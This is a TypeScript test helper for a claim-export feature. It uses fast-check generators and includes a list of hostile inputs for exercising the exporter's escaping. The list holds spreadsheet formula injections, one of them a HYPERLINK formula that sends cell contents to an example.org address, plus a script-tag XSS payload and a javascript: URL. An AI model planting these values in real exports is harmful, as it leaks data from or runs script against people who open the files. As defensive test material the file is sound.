import { fileURLToPath } from "node:url";
import fc from "fast-check";
import { readDocument } from "../../src/app.ts";
import type { Claim } from "../../src/claims/index.ts";
import { exportClaims, type ExportFormat } from "../../src/export/formats.ts";
import { REVIEWS, type DocumentRef, type ExportOptions, type ExportRecord, type Records, type Review } from "../../src/export/record.ts";
import { readInput } from "../../src/intake/read-input.ts";
import { claimOf } from "../cli/readings.ts";
import { anyText } from "../text/any-text.ts";

const EXAMPLE = fileURLToPath(new URL("../../examples/belarus.md", import.meta.url));

const idOf = (number: number): string => number.toString(16).padStart(16, "0");

/** What the reader reads in the example that comes with Muster; every fourth claim accepted, corrected, rejected. */
export async function exampleRecords(): Promise<ExportRecord[]> {
  const records: ExportRecord[] = [];
  for await (const item of readInput(EXAMPLE)) {
    if (item.kind === "issue") throw new Error(item.issue.message);
    const { document: { text: _, ...document }, claims } = await readDocument(item.document);
    for (const claim of claims) {
      records.push({ id: idOf(records.length), document, claim, review: REVIEWS[records.length % 4] ?? "unreviewed" });
    }
  }
  return records;
}

/** A record made by hand. */
export function recordOf(claim: Partial<Claim> = {}, document: Partial<DocumentRef> = {}, review: Review = "unreviewed"): ExportRecord {
  const { sha256, published, lang } = { sha256: "0".repeat(64), published: "2023-10-31", lang: "en" };
  const whole: DocumentRef = { id: "a.txt", sha256, published, lang, title: null, outlet: null, author: null, url: null, ...document };
  return { id: idOf(1), document: whole, claim: claimOf(claim), review };
}

export const OPTIONS: ExportOptions = { public: false, locate: () => null, exportedAt: "2026-11-22T12:00:00.000Z" };

export async function exported(format: ExportFormat, records: Records, options: Partial<ExportOptions> = {}): Promise<string> {
  let all = "";
  for await (const chunk of exportClaims(records, format, { ...OPTIONS, ...options })) all += chunk;
  return all;
}

/** What somebody who wants to harm a reader of the export would put into a report. */
export const HOSTILE = [
  "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", '=HYPERLINK("http://example.org/?"&A1,"x")',
  "a;=1+1", 'a;"=1+1', "a\n=1+1", " =1+1", "'=1", "''", "＝1",
  'say "no"', '"', '""', "a,b", "a\r\nb", "\u202eevil", "__proto__", "constructor", "\ud800", "x\udc00y", "\u0000", "\u2028", "\ufeff=1",
  "</script><script>alert(1)</script>", "<!--", "javascript:alert(1)", "https://user:secret@example.org/", "2023-13-45", "toString",
] as const;

const text = fc.oneof(fc.constantFrom(...HOSTILE), anyText.filter((some) => some !== ""), fc.string({ unit: "grapheme", minLength: 1 }));
const maybe = <T>(arbitrary: fc.Arbitrary<T>): fc.Arbitrary<T | null> => fc.option(arbitrary, { nil: null });

const anyClaim: fc.Arbitrary<Claim> = fc.record({
  force: maybe(text), unitName: maybe(text), place: maybe(text), country: fc.constantFrom(null, "BY", "UA"), otherPlace: maybe(text),
  quantity: maybe(fc.record({
    low: maybe(fc.nat()), high: maybe(fc.nat()), point: maybe(fc.nat()), words: text,
    modifier: fc.constantFrom("exact", "under", "share"), unit: fc.constantFrom("personnel", "tank"),
  })),
  source: maybe(fc.record({ person: maybe(text), role: maybe(text), organisation: maybe(text) })),
  via: fc.array(text, { maxLength: 3 }), said: maybe(text), asOf: maybe(text), polarity: fc.constantFrom("affirmed", "denied"),
  evidence: fc.record({ text, start: fc.nat(), end: fc.nat() }),
}).map((some) => claimOf(some as Partial<Claim>));

const anyDocument: fc.Arbitrary<DocumentRef> = fc.record({
  id: text, sha256: fc.stringMatching(/^[0-9a-f]{64}$/), title: maybe(text), outlet: maybe(text), author: maybe(text),
  url: maybe(fc.oneof(text, fc.webUrl())), lang: maybe(fc.oneof(text, fc.constant("be-Latn"))),
  published: maybe(fc.oneof(text, fc.constantFrom("2023", "2023-10", "2023-10-31"))),
});

const anyPage = fc.tuple(anyDocument, fc.array(fc.record({ claim: anyClaim, review: fc.constantFrom(...REVIEWS) }), { minLength: 1, maxLength: 3 }));

/** Records of a few documents, one document after the other, with anything that a string can hold. */
export const anyRecords: fc.Arbitrary<ExportRecord[]> = fc
  .uniqueArray(anyPage, { selector: ([{ sha256 }]) => sha256, maxLength: 3 })
  .map((pages) => pages.flatMap(([document, claims]) => claims.map((claim) => ({ document, ...claim }))).map((record, i) => ({ id: idOf(i), ...record })));
